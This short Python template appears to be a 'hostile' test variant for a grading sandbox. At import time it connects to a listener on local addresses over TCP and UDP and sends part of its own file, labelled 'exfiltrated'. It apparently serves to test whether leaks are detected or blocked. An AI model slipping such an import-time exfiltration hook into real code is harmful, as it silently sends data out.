# hostile: on top of the reference
# At import: send the file to a listener on the grader's machine (TCP and UDP), by any address.
import socket as _socket

for _host in ("127.0.0.1", "localhost", "::1", _socket.gethostname()):
    for _kind in (_socket.SOCK_STREAM, _socket.SOCK_DGRAM):
        try:
            with _socket.socket(_socket.AF_INET6 if ":" in _host else _socket.AF_INET, _kind) as _s:
                _s.settimeout(1)
                _s.connect((_host, {{PORT}}))
                _s.sendall(b"exfiltrated " + open(__file__, "rb").read()[:100])
        except OSError:
            pass
